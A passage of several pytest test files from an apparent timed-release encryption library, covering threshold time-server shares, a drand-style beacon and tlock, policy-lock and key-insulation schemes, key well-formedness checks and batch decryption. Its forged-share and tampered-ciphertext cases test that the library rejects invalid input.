            x: (coeffs[0] + coeffs[1] * x + coeffs[2] * x * x) % q
            for x in range(1, 6)
        }
        for subset in itertools.combinations(shares, 3):
            total = sum(
                lagrange_coefficient_at_zero(list(subset), i, q) * shares[i]
                for i in subset
            ) % q
            assert total == 7

    def test_index_must_be_in_set(self, group):
        with pytest.raises(ParameterError):
            lagrange_coefficient_at_zero([1, 2, 3], 4, group.q)


class TestSetup:
    def test_bad_threshold_rejected(self, group, rng):
        with pytest.raises(ParameterError):
            ThresholdTimeServer.setup(group, members=3, threshold=4, rng=rng)
        with pytest.raises(ParameterError):
            ThresholdTimeServer.setup(group, members=3, threshold=0, rng=rng)

    def test_member_keys_match_commitments(self, group, threshold_world):
        coordinator, members = threshold_world
        for member in members:
            assert (
                coordinator.expected_verification_key(member.index)
                == member.verification_key
            )

    def test_commitment_zero_is_public_key(self, group, threshold_world):
        coordinator, _ = threshold_world
        assert coordinator.commitments[0] == coordinator.public_key.s_generator


class TestShares:
    def test_share_verifies(self, threshold_world):
        coordinator, members = threshold_world
        share = members[0].issue_update_share(LABEL)
        assert coordinator.verify_share(share)

    def test_forged_share_rejected(self, group, threshold_world, rng):
        coordinator, _ = threshold_world
        forged = UpdateShare(1, LABEL, group.random_point(rng))
        assert not coordinator.verify_share(forged)

    def test_share_from_wrong_member_index_rejected(self, threshold_world):
        coordinator, members = threshold_world
        share = members[0].issue_update_share(LABEL)
        relabeled = UpdateShare(2, share.time_label, share.point)
        assert not coordinator.verify_share(relabeled)

    def test_infinity_share_rejected(self, group, threshold_world):
        coordinator, _ = threshold_world
        assert not coordinator.verify_share(
            UpdateShare(1, LABEL, group.identity())
        )


class TestCombination:
    def test_any_k_subset_combines_to_same_update(self, group, threshold_world):
        coordinator, members = threshold_world
        shares = [m.issue_update_share(LABEL) for m in members]
        updates = [
            coordinator.combine([shares[i] for i in subset])
            for subset in itertools.combinations(range(5), 3)
        ]
        assert all(u == updates[0] for u in updates)
        assert updates[0].verify(group, coordinator.public_key)

    def test_combined_update_decrypts_tre(self, group, threshold_world, rng):
        coordinator, members = threshold_world
        scheme = TimedReleaseScheme(group)
        user = UserKeyPair.generate(group, coordinator.public_key, rng)
        ct = scheme.encrypt(
            b"threshold-released", user.public, coordinator.public_key, LABEL, rng
        )
        update = coordinator.combine(
            [m.issue_update_share(LABEL) for m in members[:3]]
        )
        assert scheme.decrypt(ct, user, update, coordinator.public_key) == (
            b"threshold-released"
        )

    def test_too_few_shares_fail(self, threshold_world):
        coordinator, members = threshold_world
        shares = [m.issue_update_share(LABEL) for m in members[:2]]
        with pytest.raises(UpdateVerificationError):
            coordinator.combine(shares)

    def test_duplicate_shares_do_not_count_twice(self, threshold_world):
        coordinator, members = threshold_world
        share = members[0].issue_update_share(LABEL)
        with pytest.raises(UpdateVerificationError):
            coordinator.combine([share, share, share])

    def test_bad_share_rejected_during_combine(self, group, threshold_world, rng):
        coordinator, members = threshold_world
        shares = [m.issue_update_share(LABEL) for m in members[:2]]
        shares.append(UpdateShare(3, LABEL, group.random_point(rng)))
        with pytest.raises(UpdateVerificationError):
            coordinator.combine(shares)

    def test_mixed_labels_rejected(self, threshold_world):
        coordinator, members = threshold_world
        shares = [m.issue_update_share(LABEL) for m in members[:2]]
        shares.append(members[2].issue_update_share(b"other-label"))
        with pytest.raises(UpdateVerificationError):
            coordinator.combine(shares)

    def test_extra_shares_ignored(self, group, threshold_world):
        coordinator, members = threshold_world
        all_shares = [m.issue_update_share(LABEL) for m in members]
        update = coordinator.combine(all_shares)
        assert update.verify(group, coordinator.public_key)

    def test_offline_tolerance(self, group, threshold_world, rng):
        """N - k members can vanish without delaying the release."""
        coordinator, members = threshold_world
        online = members[2:]  # members 1 and 2 are down
        update = coordinator.combine(
            [m.issue_update_share(LABEL) for m in online]
        )
        assert update.verify(group, coordinator.public_key)

    def test_below_threshold_collusion_cannot_forge(self, group, threshold_world):
        """Two colluding members (k=3) cannot produce a valid update by
        combining just their own shares with any coefficients we try."""
        coordinator, members = threshold_world
        s1 = members[0].issue_update_share(LABEL)
        s2 = members[1].issue_update_share(LABEL)
        from repro.core.timeserver import TimeBoundKeyUpdate

        for c1, c2 in [(1, 1), (2, -1), (3, -2), (5, 7)]:
            attempt = group.add(
                group.mul(s1.point, c1), group.mul(s2.point, c2)
            )
            forged = TimeBoundKeyUpdate(LABEL, attempt)
            assert not forged.verify(group, coordinator.public_key)

    def test_one_of_one_degenerates_to_plain_server(self, group, rng):
        coordinator, members = ThresholdTimeServer.setup(
            group, members=1, threshold=1, rng=rng
        )
        update = coordinator.combine([members[0].issue_update_share(LABEL)])
        assert update.verify(group, coordinator.public_key)
