"""Tests for the drand-style beacon and the Type-3 timed release schemes."""

import dataclasses

import pytest

from repro.core.tlock import (
    DrandStyleBeacon,
    RoundSignature,
    TimelockEncryption,
    Type3TimedRelease,
    round_label,
)
from repro.crypto.rng import seeded_rng
from repro.errors import (
    DecryptionError,
    KeyValidationError,
    UpdateNotAvailableError,
    UpdateVerificationError,
)
from repro.pairing.bn254 import bn254


@pytest.fixture(scope="module")
def engine():
    return bn254()


@pytest.fixture(scope="module")
def beacon(engine):
    return DrandStyleBeacon(engine, seeded_rng("beacon"))


@pytest.fixture(scope="module")
def tlock(engine):
    return TimelockEncryption(engine)


@pytest.fixture(scope="module")
def t3(engine):
    return Type3TimedRelease(engine)


@pytest.fixture(scope="module")
def receiver(t3, beacon):
    return t3.generate_user_keypair(beacon.public_key, seeded_rng("recv"))


class TestBeacon:
    def test_round_signature_verifies(self, beacon):
        sig = beacon.publish_round(42)
        assert beacon.verify(sig)

    def test_signature_deterministic_per_round(self, beacon):
        assert beacon.publish_round(42) == beacon.publish_round(42)

    def test_forged_signature_rejected(self, engine, beacon):
        sig = beacon.publish_round(43)
        forged = RoundSignature(43, sig.point + engine.g1)
        assert not beacon.verify(forged)

    def test_relabeled_signature_rejected(self, beacon):
        sig = beacon.publish_round(44)
        assert not beacon.verify(RoundSignature(45, sig.point))

    def test_archive(self, beacon):
        beacon.publish_round(7)
        assert beacon.lookup(7).round_number == 7
        with pytest.raises(UpdateNotAvailableError):
            beacon.lookup(999_999)

    def test_round_label_fixed_width(self):
        assert len(round_label(0)) == 8
        assert len(round_label(2**62)) == 8
        assert round_label(1) != round_label(256)


class TestTimelockEncryption:
    def test_roundtrip(self, tlock, beacon):
        rng = seeded_rng("t1")
        ct = tlock.encrypt(b"for round 100", beacon.public_key, 100, rng)
        sig = beacon.publish_round(100)
        assert tlock.decrypt(ct, sig) == b"for round 100"

    def test_wrong_round_signature_rejected(self, tlock, beacon):
        rng = seeded_rng("t2")
        ct = tlock.encrypt(b"m", beacon.public_key, 200, rng)
        with pytest.raises(UpdateVerificationError):
            tlock.decrypt(ct, beacon.publish_round(201))

    def test_forged_signature_fails_aead(self, engine, tlock, beacon):
        rng = seeded_rng("t3")
        ct = tlock.encrypt(b"m", beacon.public_key, 300, rng)
        forged = RoundSignature(300, engine.g1 * 12345)
        with pytest.raises(DecryptionError):
            tlock.decrypt(ct, forged)

    def test_anyone_with_signature_decrypts(self, tlock, beacon):
        """tlock is identity-based on the round: the signature IS the
        (universal) decryption key — the escrow stance of ID-TRE."""
        rng = seeded_rng("t4")
        ct = tlock.encrypt(b"public at round 400", beacon.public_key, 400, rng)
        sig = beacon.publish_round(400)
        # A completely unrelated party:
        third_party = TimelockEncryption(tlock.engine)
        assert third_party.decrypt(ct, sig) == b"public at round 400"


class TestType3TimedRelease:
    def test_well_formed_key(self, engine, receiver, beacon):
        assert receiver.verify_well_formed(engine, beacon.public_key)

    def test_malformed_key_rejected_at_encrypt(self, engine, t3, beacon):
        rng = seeded_rng("t5")
        bad = (engine.g1 * 3, beacon.public_key * 4)  # different scalars
        with pytest.raises(KeyValidationError):
            t3.encrypt(b"m", bad, beacon.public_key, 500, rng)

    def test_roundtrip(self, t3, beacon, receiver):
        rng = seeded_rng("t6")
        ct = t3.encrypt(
            b"receiver bound", receiver, beacon.public_key, 600, rng,
            verify_receiver_key=False,
        )
        sig = beacon.publish_round(600)
        assert t3.decrypt(ct, receiver, sig) == b"receiver bound"

    def test_signature_alone_insufficient(self, t3, beacon, receiver):
        """Unlike tlock, the round signature without ``a`` opens nothing
        — the paper's receiver privacy carried onto Type-3."""
        rng = seeded_rng("t7")
        ct = t3.encrypt(
            b"private", receiver, beacon.public_key, 700, rng,
            verify_receiver_key=False,
        )
        sig = beacon.publish_round(700)
        with pytest.raises(DecryptionError):
            t3.decrypt(ct, 1, sig)  # "a = 1" = anyone with public data

    def test_wrong_round_rejected(self, t3, beacon, receiver):
        rng = seeded_rng("t8")
        ct = t3.encrypt(
            b"m", receiver, beacon.public_key, 800, rng,
            verify_receiver_key=False,
        )
        with pytest.raises(UpdateVerificationError):
            t3.decrypt(ct, receiver, beacon.publish_round(801))

    def test_tampered_payload_rejected(self, t3, beacon, receiver):
        rng = seeded_rng("t9")
        ct = t3.encrypt(
            b"mmmm", receiver, beacon.public_key, 900, rng,
            verify_receiver_key=False,
        )
        sig = beacon.publish_round(900)
        mauled = dataclasses.replace(ct, sealed=bytes(b ^ 1 for b in ct.sealed))
        with pytest.raises(DecryptionError):
            t3.decrypt(mauled, receiver, sig)
