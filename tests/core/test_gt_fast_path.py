"""The sender GT fast path is a pure accelerator — bytes never change.

``precompute_sender(..., time_labels=[T])`` caches the constant pairing
``ê(asG, H1(T))`` and a windowed exponentiation table for it.  Every
scheme that rides the cache (TRE, ID-TRE, hybrid, FO, REACT) must emit
ciphertexts byte-identical to the cold path for the same rng seed, in
both curve families and at production size — bilinearity guarantees the
same GT element, canonical field representation the same bytes.
"""

import random

import pytest

from repro.core.fujisaki_okamoto import FOTimedReleaseScheme
from repro.core.hybrid_tre import HybridTimedReleaseScheme
from repro.core.idtre import IdentityTimedReleaseScheme
from repro.core.keys import ServerKeyPair, UserKeyPair
from repro.core.react import ReactTimedReleaseScheme
from repro.core.timeserver import PassiveTimeServer
from repro.core.tre import TimedReleaseScheme
from repro.pairing.api import GT_EXP, GT_FIXED_BASE, PairingGroup

LABEL = b"gt-fast-path-T"
MESSAGE = b"the ciphertext bytes must not change" * 2
SEED = 0x6F457
WRAPPERS = (HybridTimedReleaseScheme, FOTimedReleaseScheme, ReactTimedReleaseScheme)


def _setup(group):
    rng = random.Random(SEED)
    server = ServerKeyPair.generate(group, rng)
    user = UserKeyPair.generate(group, server.public, rng)
    return server, user


class TestTREByteIdentity:
    def test_cached_equals_direct(self, any_group):
        group = any_group
        server, user = _setup(group)
        scheme = TimedReleaseScheme(group)
        cold = scheme.encrypt(
            MESSAGE, user.public, server.public, LABEL, random.Random(1),
            verify_receiver_key=False,
        )
        scheme.precompute_sender(user.public, server.public, time_labels=[LABEL])
        with group.counters.measure() as ops:
            warm = scheme.encrypt(
                MESSAGE, user.public, server.public, LABEL, random.Random(1),
                verify_receiver_key=False,
            )
        assert warm.to_bytes(group) == cold.to_bytes(group)
        # The fast path really engaged: a table-driven GT exponentiation
        # and no pairing.
        assert ops.get(GT_FIXED_BASE) == 1
        assert ops.get(GT_EXP) == 1
        assert "pairing" not in ops
        assert "hash_to_group" not in ops

    def test_warm_ciphertext_decrypts(self, any_group):
        group = any_group
        server, user = _setup(group)
        ts = PassiveTimeServer(group, keypair=server)
        scheme = TimedReleaseScheme(group)
        scheme.precompute_sender(user.public, server.public, time_labels=[LABEL])
        ct = scheme.encrypt(
            MESSAGE, user.public, server.public, LABEL, random.Random(2),
            verify_receiver_key=False,
        )
        assert scheme.decrypt(ct, user, ts.issue_update(LABEL)) == MESSAGE

    def test_clear_sender_cache_restores_cold_path(self, group):
        server, user = _setup(group)
        scheme = TimedReleaseScheme(group)
        scheme.precompute_sender(user.public, server.public, time_labels=[LABEL])
        scheme.clear_sender_cache()
        group.clear_precomputations()
        with group.counters.measure() as ops:
            scheme.encrypt(
                MESSAGE, user.public, server.public, LABEL, random.Random(3),
                verify_receiver_key=False,
            )
        assert ops.get("pairing") == 1
        assert GT_FIXED_BASE not in ops

    def test_multiple_labels_cached_independently(self, group):
        server, user = _setup(group)
        scheme = TimedReleaseScheme(group)
        labels = [b"epoch-1", b"epoch-2", b"epoch-3"]
        colds = [
            scheme.encrypt(
                MESSAGE, user.public, server.public, label, random.Random(4),
                verify_receiver_key=False,
            ).to_bytes(group)
            for label in labels
        ]
        scheme.clear_sender_cache()
        group.clear_precomputations()
        scheme.precompute_sender(user.public, server.public, time_labels=labels)
        warms = [
            scheme.encrypt(
                MESSAGE, user.public, server.public, label, random.Random(4),
                verify_receiver_key=False,
            ).to_bytes(group)
            for label in labels
        ]
        assert warms == colds

    def test_ss512_byte_identity(self):
        group = PairingGroup("ss512", family="A")
        server, user = _setup(group)
        scheme = TimedReleaseScheme(group)
        cold = scheme.encrypt(
            MESSAGE, user.public, server.public, LABEL, random.Random(5),
            verify_receiver_key=False,
        )
        scheme.precompute_sender(user.public, server.public, time_labels=[LABEL])
        warm = scheme.encrypt(
            MESSAGE, user.public, server.public, LABEL, random.Random(5),
            verify_receiver_key=False,
        )
        assert warm.to_bytes(group) == cold.to_bytes(group)


class TestIDTREByteIdentity:
    def test_cached_equals_direct(self, any_group):
        group = any_group
        rng = random.Random(SEED)
        server = ServerKeyPair.generate(group, rng)
        scheme = IdentityTimedReleaseScheme(group)
        identity = b"alice@example.org"
        cold = scheme.encrypt(
            MESSAGE, identity, server.public, LABEL, random.Random(6)
        )
        scheme.precompute_sender(
            server.public, identities=[identity], time_labels=[LABEL]
        )
        with group.counters.measure() as ops:
            warm = scheme.encrypt(
                MESSAGE, identity, server.public, LABEL, random.Random(6)
            )
        assert warm.to_bytes(group) == cold.to_bytes(group)
        assert ops.get(GT_FIXED_BASE) == 1
        assert "pairing" not in ops

    def test_warm_ciphertext_decrypts(self, group):
        rng = random.Random(SEED)
        server = ServerKeyPair.generate(group, rng)
        ts = PassiveTimeServer(group, keypair=server)
        scheme = IdentityTimedReleaseScheme(group)
        identity = b"bob@example.org"
        scheme.precompute_sender(
            server.public, identities=[identity], time_labels=[LABEL]
        )
        ct = scheme.encrypt(
            MESSAGE, identity, server.public, LABEL, random.Random(7)
        )
        user_key = scheme.extract_user_key(server, identity)
        assert scheme.decrypt(ct, user_key, ts.issue_update(LABEL)) == MESSAGE


class TestWrapperByteIdentity:
    @pytest.mark.parametrize("cls", WRAPPERS, ids=lambda c: c.__name__)
    def test_cached_equals_direct(self, any_group, cls):
        group = any_group
        server, user = _setup(group)
        scheme = cls(group)
        group.clear_precomputations()
        cold = scheme.encrypt(
            MESSAGE, user.public, server.public, LABEL, random.Random(8),
            verify_receiver_key=False,
        )
        scheme.precompute_sender(user.public, server.public, time_labels=[LABEL])
        warm = scheme.encrypt(
            MESSAGE, user.public, server.public, LABEL, random.Random(8),
            verify_receiver_key=False,
        )
        assert warm.to_bytes(group) == cold.to_bytes(group)
        scheme.clear_sender_cache()

    @pytest.mark.parametrize("cls", WRAPPERS, ids=lambda c: c.__name__)
    def test_warm_ciphertext_decrypts(self, group, cls):
        server, user = _setup(group)
        ts = PassiveTimeServer(group, keypair=server)
        scheme = cls(group)
        scheme.precompute_sender(user.public, server.public, time_labels=[LABEL])
        ct = scheme.encrypt(
            MESSAGE, user.public, server.public, LABEL, random.Random(9),
            verify_receiver_key=False,
        )
        update = ts.issue_update(LABEL)
        assert scheme.decrypt(ct, user, update, server.public) == MESSAGE
