"""Tests for policy-lock encryption (§5.3.2)."""

import pytest

from repro.core.policylock import PolicyLockScheme
from repro.errors import DecryptionError, PolicyError

CONDITIONS = [b"incident-declared", b"cto-approved", b"legal-signed-off"]


@pytest.fixture(scope="module")
def scheme(group):
    return PolicyLockScheme(group)


class TestConjunction:
    def test_all_attestations_open(self, scheme, server, user, rng):
        ct = scheme.encrypt_all(
            b"secret", user.public, server.public_key, CONDITIONS, rng
        )
        atts = [server.publish_update(c) for c in CONDITIONS]
        assert scheme.decrypt_all(ct, user, atts, server.public_key) == b"secret"

    def test_attestation_order_irrelevant(self, scheme, server, user, rng):
        ct = scheme.encrypt_all(
            b"secret", user.public, server.public_key, CONDITIONS, rng
        )
        atts = [server.publish_update(c) for c in reversed(CONDITIONS)]
        assert scheme.decrypt_all(ct, user, atts, server.public_key) == b"secret"

    def test_missing_attestation_raises(self, scheme, server, user, rng):
        ct = scheme.encrypt_all(
            b"secret", user.public, server.public_key, CONDITIONS, rng
        )
        atts = [server.publish_update(c) for c in CONDITIONS[:-1]]
        with pytest.raises(PolicyError):
            scheme.decrypt_all(ct, user, atts, server.public_key)

    def test_unrelated_attestation_rejected(self, scheme, server, user, rng):
        ct = scheme.encrypt_all(
            b"secret", user.public, server.public_key, CONDITIONS[:2], rng
        )
        atts = [
            server.publish_update(CONDITIONS[0]),
            server.publish_update(b"wrong-condition"),
        ]
        with pytest.raises(PolicyError):
            scheme.decrypt_all(ct, user, atts, server.public_key)

    def test_single_condition_equals_tre(self, scheme, group, server, user, rng):
        # With one condition the conjunction IS the TRE construction.
        from repro.core.tre import TimedReleaseScheme

        label = b"just-a-time"
        ct = scheme.encrypt_all(b"m", user.public, server.public_key, [label], rng)
        update = server.publish_update(label)
        assert scheme.decrypt_all(ct, user, [update]) == b"m"
        tre = TimedReleaseScheme(group)
        tre_ct = tre.encrypt(b"m", user.public, server.public_key, label, rng)
        assert tre.decrypt(tre_ct, user, update) == b"m"

    def test_empty_policy_rejected(self, scheme, server, user, rng):
        with pytest.raises(PolicyError):
            scheme.encrypt_all(b"m", user.public, server.public_key, [], rng)

    def test_duplicate_conditions_rejected(self, scheme, server, user, rng):
        with pytest.raises(PolicyError):
            scheme.encrypt_all(
                b"m", user.public, server.public_key, [b"c", b"c"], rng
            )

    def test_wrong_private_key_garbage(self, scheme, group, server, user, rng):
        from repro.core.keys import UserKeyPair

        ct = scheme.encrypt_all(
            b"secret", user.public, server.public_key, CONDITIONS, rng
        )
        atts = [server.publish_update(c) for c in CONDITIONS]
        other = UserKeyPair.generate(group, server.public_key, rng)
        assert scheme.decrypt_all(ct, other, atts) != b"secret"

    def test_serialization(self, scheme, group, server, user, rng):
        from repro.core.policylock import ConjunctionCiphertext

        ct = scheme.encrypt_all(
            b"m", user.public, server.public_key, CONDITIONS, rng
        )
        assert ConjunctionCiphertext.from_bytes(group, ct.to_bytes(group)) == ct


class TestDisjunction:
    def test_any_single_attestation_opens(self, scheme, server, user, rng):
        ct = scheme.encrypt_any(
            b"runbook", user.public, server.public_key, CONDITIONS, rng
        )
        for condition in CONDITIONS:
            att = server.publish_update(condition)
            assert scheme.decrypt_any(ct, user, att, server.public_key) == b"runbook"

    def test_unlisted_condition_rejected(self, scheme, server, user, rng):
        ct = scheme.encrypt_any(
            b"m", user.public, server.public_key, CONDITIONS, rng
        )
        att = server.publish_update(b"not-in-the-policy")
        with pytest.raises(PolicyError):
            scheme.decrypt_any(ct, user, att, server.public_key)

    def test_wrong_receiver_fails_loudly(self, scheme, group, server, user, rng):
        from repro.core.keys import UserKeyPair

        ct = scheme.encrypt_any(
            b"m", user.public, server.public_key, CONDITIONS, rng
        )
        att = server.publish_update(CONDITIONS[0])
        other = UserKeyPair.generate(group, server.public_key, rng)
        with pytest.raises(DecryptionError):
            scheme.decrypt_any(ct, other, att)

    def test_empty_policy_rejected(self, scheme, server, user, rng):
        with pytest.raises(PolicyError):
            scheme.encrypt_any(b"m", user.public, server.public_key, [], rng)
