"""Tests for server/user key generation and well-formedness checks."""

import pytest

from repro.core.keys import ServerKeyPair, ServerPublicKey, UserKeyPair, UserPublicKey
from repro.errors import EncodingError, KeyValidationError


class TestServerKeys:
    def test_public_key_consistent(self, group, rng):
        kp = ServerKeyPair.generate(group, rng)
        assert kp.public.s_generator == group.mul(kp.public.generator, kp.private)

    def test_custom_generator(self, group, rng):
        custom = group.random_point(rng)
        kp = ServerKeyPair.generate(group, rng, generator=custom)
        assert kp.public.generator == custom

    def test_serialization_roundtrip(self, group, rng):
        kp = ServerKeyPair.generate(group, rng)
        blob = kp.public.to_bytes(group)
        assert ServerPublicKey.from_bytes(group, blob) == kp.public

    def test_bad_blob_rejected(self, group):
        with pytest.raises(EncodingError):
            ServerPublicKey.from_bytes(group, b"\x00\x00\x00\x01" + b"\x00\x00\x00\x00")


class TestUserKeys:
    def test_structure(self, group, server, rng):
        kp = UserKeyPair.generate(group, server.public_key, rng)
        pk_s = server.public_key
        assert kp.public.a_generator == group.mul(pk_s.generator, kp.private)
        assert kp.public.as_generator == group.mul(pk_s.s_generator, kp.private)

    def test_well_formed_accepts_honest_key(self, group, server, user):
        assert user.public.verify_well_formed(group, server.public_key)

    def test_well_formed_rejects_malformed_key(self, group, server, rng):
        honest = UserKeyPair.generate(group, server.public_key, rng)
        # Replace asG with an unrelated point: receiver could then skip
        # the update — exactly what Encrypt step 1 must catch.
        forged = UserPublicKey(
            honest.public.a_generator, group.random_point(rng)
        )
        assert not forged.verify_well_formed(group, server.public_key)
        with pytest.raises(KeyValidationError):
            forged.ensure_well_formed(group, server.public_key)

    def test_well_formed_rejects_swapped_components(self, group, server, user):
        swapped = UserPublicKey(
            user.public.as_generator, user.public.a_generator
        )
        assert not swapped.verify_well_formed(group, server.public_key)

    def test_zero_secret_rejected(self, group, server):
        with pytest.raises(KeyValidationError):
            UserKeyPair.from_secret(group, server.public_key, 0)
        with pytest.raises(KeyValidationError):
            UserKeyPair.from_secret(group, server.public_key, group.q)

    def test_from_password_deterministic(self, group, server):
        k1 = UserKeyPair.from_password(group, server.public_key, "hunter2")
        k2 = UserKeyPair.from_password(group, server.public_key, "hunter2")
        assert k1.private == k2.private
        assert k1.public == k2.public

    def test_from_password_distinct_passwords(self, group, server):
        k1 = UserKeyPair.from_password(group, server.public_key, "alpha")
        k2 = UserKeyPair.from_password(group, server.public_key, "beta")
        assert k1.private != k2.private

    def test_password_key_is_well_formed(self, group, server):
        kp = UserKeyPair.from_password(group, server.public_key, "pw")
        assert kp.public.verify_well_formed(group, server.public_key)

    def test_serialization_roundtrip(self, group, user):
        blob = user.public.to_bytes(group)
        assert UserPublicKey.from_bytes(group, blob) == user.public

    def test_rekey_to_server(self, group, server, user, rng):
        from repro.core.keys import ServerKeyPair

        new_server = ServerKeyPair.generate(group, rng)
        rekeyed = user.rekey_to_server(group, new_server.public)
        assert rekeyed.private == user.private
        assert rekeyed.public.verify_well_formed(group, new_server.public)
