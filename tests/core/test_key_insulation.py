"""Tests for key insulation / epoch keys (§5.3.3)."""

import pytest

from repro.core.key_insulation import (
    EpochKey,
    InsecureDevice,
    SafeDevice,
    decrypt_with_epoch_key,
)
from repro.core.timeserver import TimeBoundKeyUpdate, epoch_label
from repro.core.tre import TimedReleaseScheme
from repro.errors import UpdateVerificationError


@pytest.fixture(scope="module")
def scheme(group):
    return TimedReleaseScheme(group)


@pytest.fixture(scope="module")
def devices(group, server, user):
    return SafeDevice(group, user, server.public_key), InsecureDevice(group)


class TestEpochKeyDerivation:
    def test_derivation_and_decryption(self, scheme, group, server, user,
                                       devices, rng):
        safe, insecure = devices
        label = epoch_label(1)
        ct = scheme.encrypt(b"epoch mail", user.public, server.public_key, label, rng)
        update = server.publish_update(label)
        epoch_key = safe.derive_epoch_key(update)
        insecure.install_epoch_key(epoch_key)
        assert insecure.decrypt(ct) == b"epoch mail"

    def test_forged_update_refused_by_safe_device(self, group, server, devices, rng):
        safe, _ = devices
        forged = TimeBoundKeyUpdate(epoch_label(2), group.random_point(rng))
        with pytest.raises(UpdateVerificationError):
            safe.derive_epoch_key(forged)

    def test_epoch_key_algebra(self, group, server, user, devices):
        # K_i = a * I_T = a*s*H1(T) regardless of scalar ordering.
        safe, _ = devices
        label = epoch_label(3)
        update = server.publish_update(label)
        epoch_key = safe.derive_epoch_key(update)
        expected = group.mul(update.point, user.private)
        assert epoch_key.point == expected


class TestInsulation:
    def test_epoch_key_only_opens_its_epoch(self, scheme, group, server, user,
                                            devices, rng):
        safe, _ = devices
        label_a, label_b = epoch_label(10), epoch_label(11)
        ct_b = scheme.encrypt(b"B-mail", user.public, server.public_key, label_b, rng)
        key_a = safe.derive_epoch_key(server.publish_update(label_a))
        # Direct misuse is refused by the label guard.
        with pytest.raises(UpdateVerificationError):
            decrypt_with_epoch_key(group, ct_b, key_a)
        # Even forcing the label through yields garbage, not plaintext.
        forced = EpochKey(label_b, key_a.point)
        assert decrypt_with_epoch_key(group, ct_b, forced) != b"B-mail"

    def test_device_without_key_refuses(self, scheme, group, server, user, rng):
        insecure = InsecureDevice(group)
        ct = scheme.encrypt(
            b"m", user.public, server.public_key, epoch_label(20), rng
        )
        with pytest.raises(UpdateVerificationError):
            insecure.decrypt(ct)

    def test_compromise_containment(self, scheme, group, server, user, rng):
        """A thief with epoch keys 0..2 reads epochs 0..2, nothing later,
        and cannot reconstruct the long-term secret's action on other
        epochs."""
        safe = SafeDevice(group, user, server.public_key)
        stolen = InsecureDevice(group)
        messages = {}
        ciphertexts = {}
        for i in range(5):
            label = epoch_label(100 + i)
            messages[label] = f"mail-{i}".encode()
            ciphertexts[label] = scheme.encrypt(
                messages[label], user.public, server.public_key, label, rng
            )
        for i in range(3):
            label = epoch_label(100 + i)
            stolen.install_epoch_key(
                safe.derive_epoch_key(server.publish_update(label))
            )
        for i in range(3):
            label = epoch_label(100 + i)
            assert stolen.decrypt(ciphertexts[label]) == messages[label]
        for i in range(3, 5):
            label = epoch_label(100 + i)
            with pytest.raises(UpdateVerificationError):
                stolen.decrypt(ciphertexts[label])

    def test_drop_epoch_key(self, group, server, user):
        safe = SafeDevice(group, user, server.public_key)
        device = InsecureDevice(group)
        label = epoch_label(200)
        device.install_epoch_key(
            safe.derive_epoch_key(server.publish_update(label))
        )
        assert device.installed_epochs() == [label]
        device.drop_epoch_key(label)
        assert device.installed_epochs() == []
        device.drop_epoch_key(label)  # Idempotent.

    def test_derivation_counter(self, group, server, user):
        safe = SafeDevice(group, user, server.public_key)
        before = safe.derivations
        safe.derive_epoch_key(server.publish_update(epoch_label(300)))
        assert safe.derivations == before + 1
