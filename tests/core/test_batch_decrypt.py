"""Batch decryption and archive catch-up over the precomputation layer.

Everything here checks the same invariant from a different angle: the
fast paths change wall-clock cost, never bytes.
"""

import pytest

from repro.core.bls import BLSSignatureScheme
from repro.core.keys import ServerKeyPair, UserKeyPair
from repro.core.timeserver import (
    PassiveTimeServer,
    TimeBoundKeyUpdate,
    epoch_label,
    verify_archive,
)
from repro.core.tre import TimedReleaseScheme
from repro.errors import UpdateVerificationError
from repro.pairing.opcount import FIXED_BASE_MULT, PAIRING_PRECOMP

LABEL = b"batch-test:2026-08-05"


@pytest.fixture()
def setup(any_group, rng):
    scheme = TimedReleaseScheme(any_group)
    server = PassiveTimeServer(any_group, rng=rng)
    user = UserKeyPair.generate(any_group, server.public_key, rng)
    update = server.publish_update(LABEL)
    messages = [f"message number {i}".encode() for i in range(6)]
    cts = [
        scheme.encrypt(m, user.public, server.public_key, LABEL, rng)
        for m in messages
    ]
    yield scheme, server, user, update, messages, cts
    any_group.clear_precomputations()


class TestDecryptBatch:
    def test_matches_individual_decrypts(self, setup):
        scheme, server, user, update, messages, cts = setup
        singles = [scheme.decrypt(ct, user, update) for ct in cts]
        batch = scheme.decrypt_batch(cts, user, update)
        assert batch == singles == messages

    def test_accepts_private_scalar(self, setup):
        scheme, server, user, update, messages, cts = setup
        assert scheme.decrypt_batch(cts, user.private, update) == messages

    def test_authenticates_update_once(self, setup):
        scheme, server, user, update, messages, cts = setup
        assert (
            scheme.decrypt_batch(cts, user, update, server.public_key) == messages
        )

    def test_rejects_forged_update(self, setup):
        scheme, server, user, update, messages, cts = setup
        forged = TimeBoundKeyUpdate(LABEL, scheme.group.generator)
        with pytest.raises(UpdateVerificationError):
            scheme.decrypt_batch(cts, user, forged, server.public_key)

    def test_rejects_mixed_labels_before_decrypting(self, setup, rng):
        scheme, server, user, update, messages, cts = setup
        stray = scheme.encrypt(
            b"other epoch", user.public, server.public_key, b"other-label", rng
        )
        with pytest.raises(UpdateVerificationError):
            scheme.decrypt_batch(cts + [stray], user, update)

    def test_empty_batch(self, setup):
        scheme, server, user, update, messages, cts = setup
        assert scheme.decrypt_batch([], user, update) == []

    def test_uses_cached_lines_on_family_a(self, setup):
        scheme, server, user, update, messages, cts = setup
        group = scheme.group
        group.counters.reset()
        scheme.decrypt_batch(cts, user, update)
        expected = len(cts) if group.family == "A" else 0
        assert group.counters.total(PAIRING_PRECOMP) == expected


class TestSenderPrecompute:
    def test_encrypt_identical_after_precompute(self, any_group, rng):
        scheme = TimedReleaseScheme(any_group)
        server = PassiveTimeServer(any_group, rng=rng)
        user = UserKeyPair.generate(any_group, server.public_key, rng)
        update = server.publish_update(LABEL)

        scheme.precompute_sender(user.public, server.public_key)
        any_group.counters.reset()
        ct = scheme.encrypt(
            b"warm tables", user.public, server.public_key, LABEL, rng,
            verify_receiver_key=False,
        )
        assert any_group.counters.total(FIXED_BASE_MULT) == 2
        assert scheme.decrypt(ct, user, update) == b"warm tables"
        any_group.clear_precomputations()


class TestArchiveCatchUp:
    def test_verify_archive_flags_only_bad_labels(self, group, rng):
        server = PassiveTimeServer(group, rng=rng)
        updates = [server.publish_update(epoch_label(i)) for i in range(8)]
        assert verify_archive(group, server.public_key, updates) == []
        updates[3] = TimeBoundKeyUpdate(updates[3].time_label, group.generator)
        updates[6] = TimeBoundKeyUpdate(updates[6].time_label, group.identity())
        assert verify_archive(group, server.public_key, updates) == [
            epoch_label(3),
            epoch_label(6),
        ]
        group.clear_precomputations()

    def test_bls_precompute_public_verification_unchanged(self, any_group, rng):
        bls = BLSSignatureScheme(any_group)
        keypair = ServerKeyPair.generate(any_group, rng)
        sig = bls.sign(keypair, b"some message")
